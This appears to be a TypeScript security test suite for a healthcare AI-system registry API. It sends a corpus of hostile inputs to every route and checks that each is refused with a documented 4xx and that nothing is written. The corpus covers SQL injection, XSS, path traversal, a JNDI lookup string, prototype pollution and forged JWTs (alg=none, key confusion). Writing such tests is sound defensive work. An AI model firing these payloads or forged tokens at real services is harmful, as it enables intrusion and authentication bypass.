import { generateKeyPairSync } from 'node:crypto';
import { SignJWT } from 'jose';
import type { Test } from 'supertest';
import { KEY_MATERIAL, type KeyMaterial, ROLES, type Role, routeRoles, type RouteRoles } from '@app/identity';
import { PROBLEM_BASE } from '@app/platform';
import { aiSystemBody, startTestApp, type TestApp } from '../support/test-app';
import { LONG, reviewBody } from './support';

/** Hostile strings for every text field, path segment and query value. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1'; DROP TABLE events; --",
  '"; DELETE FROM projection_checkpoints WHERE "1"="1',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'nul\u0000byte',
  'rtl \u202egnp.exe',
  'lone surrogate \ud800 here',
  'zero\u200bwidth\ufeff',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏥 ﷽',
  '%00%2e%2e%2f',
  '${jndi:ldap://x.example/a}',
];

/**
 * Text one store accepts and another cannot project (PostgreSQL refuses NUL), other C0 controls
 * and lone surrogates: refused on every route, naming the field (issue 20, finding 1).
 */
const POISON = ['x\u0000y', 'bell\u0007', 'esc\u001b[31m', 'lone \ud800', 'lone \udfff'];

/** The short profile sends a representative handful; the long one the whole list. */
const STRINGS = LONG ? HOSTILE_STRINGS : HOSTILE_STRINGS.filter((_, i) => [0, 2, 5, 7, 8, 9].includes(i));

/** Statuses the API documents for bad input (docs/api.md: errors). */
const DOCUMENTED_4XX = [400, 401, 403, 404, 405, 409, 413, 415, 422, 428, 429];

/** Percent-encodes a path segment; a lone surrogate (not encodable) goes as invalid UTF-8 bytes. */
const encodeSegment = (s: string) =>
  s
    .split(/([\ud800-\udfff])/)
    .map((part) => (/^[\ud800-\udfff]$/.test(part) ? '%ED%A0%80' : encodeURIComponent(part)))
    .join('');

const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

type Answer = { status: number; headers: Record<string, string>; body: { status?: number; code?: string; type?: string } };
/**
 * Under /fhir a problem comes as an OperationOutcome carrying the problem's code (libs/fhir,
 * docs/fhir.md): read back as the problem it stands for, so both are judged alike.
 */
function asProblem(res: Answer): Answer {
  if (!/application\/fhir\+json/.test(res.headers['content-type'] ?? '')) return res;
  const body = res.body as { resourceType?: string; issue?: Array<{ details?: { coding?: Array<{ system?: string; code?: string }> } }> };
  const coding = body.resourceType === 'OperationOutcome' ? body.issue?.[0]?.details?.coding?.[0] : undefined;
  if (!coding?.code || coding.system !== PROBLEM_BASE) return res;
  return {
    status: res.status,
    headers: { 'content-type': 'application/problem+json' },
    body: { status: res.status, code: coding.code, type: PROBLEM_BASE + coding.code },
  };
}

/**
 * Table-driven hostile requests against every route of the running application (discovered
 * from the router, as the authorization matrix does), each with a role allowed to call it.
 * Every answer is a documented 4xx problem+json (or, for read routes that ignore the junk, a
 * success), never a 5xx, and nothing is written: the event count is the same before and after.
 */
describe('Hostile input corpus against every route (HTTP)', () => {
  let t: TestApp;
  let routes: RouteRoles[];
  const tokens = {} as Record<Role, string>;
  let openapi: {
    paths: Record<string, Record<string, { requestBody?: { content?: Record<string, { schema?: { $ref?: string } }> } }>>;
    components: { schemas: Record<string, Schema> };
  };
  const failures: string[] = [];

  interface Schema {
    type?: string;
    items?: { type?: string };
    properties?: Record<string, Schema & { $ref?: string }>;
    required?: string[];
  }

  const env = { ...process.env };

  beforeAll(async () => {
    // Hundreds of forged tokens from one client would trip the failed-authentication limiter (429),
    // and thousands of hostile writes by one user the write limit: neither is what this tests.
    Object.assign(process.env, { AUTH_FAILURES_PER_MINUTE: '0', WRITES_PER_MINUTE: '0' });
    t = await startTestApp();
    routes = routeRoles(t.app);
    for (const role of ROLES) tokens[role] = await t.token(role, `${role}-hostile`);
    openapi = (await t.http.get('/docs-json').expect(200)).body;
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    process.env = env;
  });
  beforeEach(() => {
    failures.length = 0;
  });

  const tokenFor = (r: RouteRoles) => tokens[r.roles[0] ?? 'admin'];
  const withPath = (r: RouteRoles, value: string) => r.path.replace(/\{[^}]+\}/g, value);
  const VALID_ID = '0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b';
  const call = (method: string, path: string, token?: string): Test => {
    const req = (t.http as unknown as Record<string, (p: string) => Test>)[method.toLowerCase()](path);
    return token ? req.set('Authorization', `Bearer ${token}`) : req;
  };

  /** Records what is wrong with an answer to a hostile request (collected, reported at once). */
  function judge(name: string, answer: Answer, allowOk: boolean) {
    const res = asProblem(answer);
    if (res.status >= 500) return failures.push(`${name}: ${res.status} ${res.body?.code}`);
    if (res.status < 400) {
      if (!allowOk) failures.push(`${name}: accepted with ${res.status}`);
      return;
    }
    if (!DOCUMENTED_4XX.includes(res.status)) failures.push(`${name}: undocumented ${res.status}`);
    if (!/application\/problem\+json/.test(res.headers['content-type'] ?? '')) failures.push(`${name}: ${res.status} not problem+json`);
    else if (res.body.status !== res.status || !res.body.code || res.body.type !== PROBLEM_BASE + res.body.code) {
      failures.push(`${name}: malformed problem ${JSON.stringify(res.body)}`);
    }
  }

  /** The request body schema of a route from the OpenAPI document, when it has one. */
  function bodySchema(r: RouteRoles): Schema | undefined {
    const op = openapi.paths[r.path]?.[r.method.toLowerCase()];
    const ref = op?.requestBody?.content?.['application/json']?.schema?.$ref;
    return ref ? openapi.components.schemas[ref.split('/').pop()!] : undefined;
  }

  /** A refusal that must be a 400 naming `field` (issue 20: refused, not dropped or stored). */
  function mustName(name: string, res: { status: number; body: { errors?: Array<{ field: string }> } }, field: string) {
    if (res.status !== 400 || !res.body.errors?.some((e) => e.field === field))
      failures.push(`${name}: ${res.status} ${JSON.stringify(res.body.errors ?? res.body)} does not refuse ${field}`);
  }

  /** A value of the wrong JSON type for a property of the given schema. */
  const wrongType = (s: Schema & { $ref?: string }) =>
    s.type === 'string'
      ? 12345
      : s.type === 'array'
        ? 'not-an-array'
        : s.type === 'number' || s.type === 'integer'
          ? 'NaN'
          : s.type === 'boolean'
            ? 'yes'
            : s.$ref
              ? 'not-an-object'
              : [null];

  it('answers hostile path parameters, queries and bodies on every route with 4xx problem+json and writes nothing', async () => {
    expect(routes.length).toBeGreaterThan(50);
    for (const r of routes) {
      const before = await t.eventCount();
      const token = tokenFor(r);
      const name = (what: string) => `${r.method} ${r.path} ${what}`;
      const write = r.method !== 'GET';
      // Hostile path parameters: never a 5xx, never a write. An unknown id is 404, a malformed one 400.
      if (r.path.includes('{')) {
        for (const s of [...STRINGS, 'x'.repeat(5000)]) {
          const path = withPath(r, encodeSegment(s));
          const res = await call(r.method, path, token).send(write ? {} : undefined);
          judge(name(`path=${JSON.stringify(s.slice(0, 30))}`), res, false);
        }
        // Invalid UTF-8 (a lone surrogate as raw bytes) in the path.
        judge(name('path=%ED%A0%80'), await call(r.method, withPath(r, '%ED%A0%80'), token).send(write ? {} : undefined), false);
      }
      const path = withPath(r, VALID_ID);
      if (!write) {
        // Junk query values and qs-style objects: rejected or ignored, never a 5xx.
        for (const q of [
          'limit=-1',
          'limit=abc',
          'limit=99999999999999999999',
          'cursor=%3Cscript%3E',
          "from=' OR 1=1 --",
          'limit[$gt]=1',
          'status[]=open&status[]=closed',
          'asOf=not-a-date',
          'a=%00',
          'patient=..%2F..%2Fetc',
        ]) {
          judge(name(`?${q}`), await call(r.method, `${path}?${q}`, token), true);
        }
      } else {
        const post = () => call(r.method, path, token);
        // Routes that take no body (e.g. seal a checkpoint now) may ignore one.
        const bodyless = !bodySchema(r);
        judge(name('malformed JSON'), await post().set('Content-Type', 'application/json').send('{"a": '), false);
        judge(
          name('deep JSON'),
          await post()
            .set('Content-Type', 'application/json')
            .send(`{"a":${nested(20_000)}}`),
          false,
        );
        judge(
          name('huge body'),
          await post()
            .set('Content-Type', 'application/json')
            .send({ note: 'x'.repeat(2 * 1024 * 1024) }),
          false,
        );
        for (const top of ['[]', '"text"', '123', 'null', 'true']) {
          judge(name(`body ${top}`), await post().set('Content-Type', 'application/json').send(top), bodyless);
        }
        const pollution = await post().set('Content-Type', 'application/json').send('{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}');
        judge(name('prototype pollution'), pollution, bodyless);
        if (!bodyless) for (const key of ['__proto__', 'constructor']) mustName(name('prototype pollution'), pollution, key);
        judge(name('unknown field'), await post().send({ definitelyNotAField: 'x', $where: 'sleep(1000)' }), bodyless);
        judge(name('text/plain'), await post().set('Content-Type', 'text/plain').send('hello'), bodyless);
        const schema = bodySchema(r);
        for (const [prop, s] of Object.entries(schema?.properties ?? {})) {
          const res = await post().send({ [prop]: wrongType(s) });
          judge(name(`${prop} wrong type`), res, false);
          if (res.status === 400 && res.body.errors && !res.body.errors.some((e: { field: string }) => e.field === prop || e.field.startsWith(`${prop}.`))) {
            failures.push(name(`${prop} wrong type: 400 does not name the field (${JSON.stringify(res.body.errors)})`));
          }
        }
      }
      // Poison text in every text field, nested ones and array elements included, and an array
      // where an object is expected: 400 naming the field on every store (issue 20, findings 1 and 2).
      if (write) {
        for (const [prop, s] of Object.entries(bodySchema(r)?.properties ?? {})) {
          const texts: Array<[string, (v: string) => object]> = [];
          if (s.type === 'string') texts.push([prop, (v) => ({ [prop]: v })]);
          if (s.type === 'array' && s.items?.type === 'string') texts.push([`${prop}.0`, (v) => ({ [prop]: [v] })]);
          const nestedSchema = s.$ref ? openapi.components.schemas[s.$ref.split('/').pop()!] : undefined;
          for (const [inner, is] of Object.entries(nestedSchema?.properties ?? {}))
            if (is.type === 'string') texts.push([`${prop}.${inner}`, (v) => ({ [prop]: { [inner]: v } })]);
          for (const [field, body] of texts) {
            for (const p of LONG ? POISON : POISON.slice(0, 4))
              mustName(name(`${field}=${JSON.stringify(p)}`), await call(r.method, path, token).send(body(p)), field);
          }
          if (s.$ref) mustName(name(`${prop}=[]`), await call(r.method, path, token).send({ [prop]: [] }), prop);
        }
      }
      const after = await t.eventCount();
      if (after !== before) failures.push(name(`wrote ${after - before} events`));
      // Injection in each text field on its own: a body of one field may be complete (e.g. an
      // erasure request), so acceptance is fine; a 5xx or a broken store is not.
      for (const [prop, s] of Object.entries(bodySchema(r)?.properties ?? {})) {
        if (s.type !== 'string') continue;
        for (const h of STRINGS.slice(0, LONG ? undefined : 3))
          judge(name(`${prop}=${JSON.stringify(h.slice(0, 20))} alone`), await call(r.method, path, token).send({ [prop]: h }), true);
      }
      if ((await t.eventCount()) < after) failures.push(name('events disappeared'));
    }
    // Still a working store: the log is intact and read models answer.
    await t.http.get('/health').expect(200);
    await t.http.get('/api/v1/ai-systems').set('Authorization', `Bearer ${tokens.admin}`).expect(200);
    expect(failures).toEqual([]);
  }, 600_000);

  it('rejects forged, tampered, expired and alg=none tokens on every non-public route with 401', async () => {
    const real = tokens.admin;
    const [h, p, s] = real.split('.');
    const payload = JSON.parse(Buffer.from(p, 'base64url').toString());
    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
    const { privateKey } = generateKeyPairSync('ed25519');
    const header = JSON.parse(Buffer.from(h, 'base64url').toString());
    const forged = [
      ['garbage', 'not.a.token'],
      ['alg none', `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ ...payload, roles: ['legal', 'auditor', 'admin'] })}.`],
      ['role tampered', `${h}.${b64({ ...payload, roles: ['legal', 'auditor'], role: 'legal' })}.${s}`],
      ['signed by another key', await new SignJWT({ ...payload, roles: ['legal'] }).setProtectedHeader(header).sign(privateKey)],
      // Signed with the registry's own key: only the expiry can reject it.
      [
        'expired',
        await new SignJWT({ ...payload })
          .setProtectedHeader(header)
          .setExpirationTime(Math.floor(Date.now() / 1000) - 60)
          .sign(t.app.get<KeyMaterial>(KEY_MATERIAL).tokenSigning.privateKey),
      ],
      [
        'HS256 with the public key as secret',
        await new SignJWT({ ...payload, roles: ['legal'] })
          .setProtectedHeader({ alg: 'HS256', typ: 'JWT', kid: header.kid })
          .sign(Buffer.from(header.kid ?? 'x')),
      ],
      ['SQL in token', "' OR 1=1 --"],
    ] as const;
    const before = await t.eventCount();
    for (const r of routes.filter((x) => !x.public)) {
      for (const [what, token] of forged) {
        const res = asProblem(await call(r.method, withPath(r, VALID_ID), token).send(r.method === 'GET' ? undefined : {}));
        if (res.status !== 401 || !['invalid-token', 'unauthenticated'].includes(res.body.code ?? '') || !/problem\+json/.test(res.headers['content-type']))
          failures.push(`${r.method} ${r.path} ${what}: ${res.status} ${res.body.code}`);
      }
    }
    expect(failures).toEqual([]);
    expect(await t.eventCount()).toBe(before);
  }, 300_000);

  it('answers a replayed Idempotency-Key with a different body with 422, writing nothing', async () => {
    const admin = tokens.admin;
    const clinician = tokens.clinician;
    const system = await t.http
      .post('/api/v1/ai-systems')
      .set('Authorization', `Bearer ${admin}`)
      .set('Idempotency-Key', 'hostile-sys-0001')
      .send(aiSystemBody())
      .expect(201);
    const cases: Array<[string, string, object, object]> = [
      ['/api/v1/ai-systems', admin, aiSystemBody(), aiSystemBody({ name: 'Another' })],
      ['/api/v1/reviews', clinician, reviewBody(system.body.aiSystemId, 1), reviewBody(system.body.aiSystemId, 2)],
      ['/api/v1/incidents', clinician, { aiSystemId: system.body.aiSystemId, narrative: 'first' }, { aiSystemId: system.body.aiSystemId, narrative: 'second' }],
    ];
    for (const [path, token, first, second] of cases) {
      const key = `hostile-replay-${path.split('/').pop()}`;
      await t.http.post(path).set('Authorization', `Bearer ${token}`).set('Idempotency-Key', key).send(first).expect(201);
      const before = await t.eventCount();
      const res = await t.http.post(path).set('Authorization', `Bearer ${token}`).set('Idempotency-Key', key).send(second);
      expect({ path, status: res.status, code: res.body.code }).toEqual({ path, status: 422, code: 'idempotency-key-reused' });
      expect(res.headers['content-type']).toMatch(/problem\+json/);
      expect(await t.eventCount()).toBe(before);
    }
    // Hostile key shapes are refused before anything runs.
    for (const key of ['short', 'x'.repeat(201), 'key with spaces', 'key\u0000nul', '<script>']) {
      const res = await t.http
        .post('/api/v1/ai-systems')
        .set('Authorization', `Bearer ${admin}`)
        .set('Idempotency-Key', encodeURIComponent(key) === key ? key : encodeURIComponent(key))
        .send(aiSystemBody());
      expect({ key, status: res.status, code: res.body.code }).toEqual({ key, status: 400, code: 'invalid-idempotency-key' });
    }
  }, 120_000);
});
